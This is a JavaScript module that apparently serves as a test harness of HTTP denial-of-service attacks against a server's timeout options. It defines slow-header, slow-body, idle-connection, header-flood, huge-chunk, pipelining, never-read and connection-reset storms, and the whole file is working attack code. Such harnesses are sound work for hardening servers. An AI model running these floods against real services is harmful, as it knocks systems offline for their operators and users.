'use strict';

/**
 * The attacks. Each gets an Attacker (attacker.js) and returns when it is under way; what it opens is closed with the process.
 * `deadline` in the table of run.js names the option that must end its connections.
 */

const HEAD = 'Host: a\r\n';
const UPGRADE = `${HEAD}Connection: Upgrade\r\nUpgrade: x\r\n\r\n`;
const PIECE = Buffer.alloc(65536, 'x');

/** `count` sockets that say `head` and then a byte every 200 ms; each is replaced when the server closes it. */
function drip(attacker, count, head, byte) {
  const open = () => {
    const socket = attacker.connect(() => {
      socket.write(head);
      const timer = setInterval(() => socket.write(byte), 200);
      socket.on('close', () => clearInterval(timer));
    });
    attacker.timeLife(socket, open);
  };
  for (let i = 0; i < count; i++) open();
}

/** `perSecond` times a second, in steps of 10 ms. */
function storm(attacker, perSecond, strike) {
  let due = 0;
  attacker.every(10, () => {
    due += perSecond / 100;
    for (; due >= 1; due--) strike();
  });
}

/** `count` sockets that write for as long as they are taken from, replaced when they are closed. */
function flood(attacker, count, head, piece) {
  const open = () => {
    const socket = attacker.connect(() => {
      socket.write(head);
      const fill = () => {
        while (socket.writable && socket.write(piece)) attacker.count('pieces');
      };
      socket.on('drain', fill);
      fill();
    });
    attacker.readStatus(socket);
    socket.on('close', () => setTimeout(open, 10));
  };
  for (let i = 0; i < count; i++) open();
}

/** Sockets that ask and never read what comes. */
function mute(attacker, count, text) {
  for (let i = 0; i < count; i++) {
    const socket = attacker.connect(() => socket.write(text));
    socket.pause();
  }
}

module.exports = {
  slowHead: (attacker) => drip(attacker, 500, `GET / HTTP/1.1\r\n${HEAD}X: `, 'x'),
  slowBody: (attacker) => drip(attacker, 500, `POST /upload HTTP/1.1\r\n${HEAD}Content-Length: 100000\r\n\r\n`, 'x'),
  idleConnections: (attacker) => drip(attacker, 500, `GET / HTTP/1.1\r\n${HEAD}\r\n`, ''),
  endlessHead: (attacker) => flood(attacker, 32, 'GET / HTTP/1.1\r\n', `X-Field: ${'x'.repeat(2000)}\r\n`),
  manyFields(attacker) {
    const request = `GET / HTTP/1.1\r\n${HEAD}${Array.from({ length: 900 }, (_, i) => `x${i}: y\r\n`).join('')}\r\n`;
    storm(attacker, 500, () => attacker.ask(request));
  },
  connectAndReset: (attacker) => storm(attacker, 1000, () => attacker.strike(`GET / HTTP/1.1\r\n${HEAD}X`)),
  neverRead: (attacker) => mute(attacker, 100, `GET /large HTTP/1.1\r\n${HEAD}\r\n`),
  neverReadPipelined: (attacker) => mute(attacker, 4, `GET /large HTTP/1.1\r\n${HEAD}\r\n`.repeat(400)),
  hugeChunk(attacker) {
    flood(attacker, 50, `POST /ignore HTTP/1.1\r\n${HEAD}Transfer-Encoding: chunked\r\n\r\nfffffffffffff\r\n`, PIECE);
  },
  pipeline: (attacker) => attacker.pipeline(4, `GET /p HTTP/1.1\r\n${HEAD}\r\n`, 100_000),
  pipelineUnanswered: (attacker) => mute(attacker, 4, `GET /hold HTTP/1.1\r\n${HEAD}\r\n`.repeat(100_000)),
  halfOpen(attacker) {
    storm(attacker, 200, () => {
      const socket = attacker.connect(() => socket.end(`GET /slow HTTP/1.1\r\n${HEAD}\r\n`));
      socket.resume();
    });
  },
  resetInUpload(attacker) {
    const text = `POST /upload HTTP/1.1\r\n${HEAD}Content-Length: 100000000\r\n\r\n${'x'.repeat(20000)}`;
    storm(attacker, 500, () => attacker.strike(text));
  },
  resetInUpgrade(attacker) {
    storm(attacker, 500, () => attacker.strike(`GET /echo HTTP/1.1\r\n${UPGRADE}${'x'.repeat(20000)}`));
  },
  unansweredUpgrade: (attacker) => attacker.hold(500, `GET /unanswered HTTP/1.1\r\n${UPGRADE}`),
  idleUpgraded: (attacker) => attacker.hold(10_000, `GET /idle HTTP/1.1\r\n${UPGRADE}`),
};
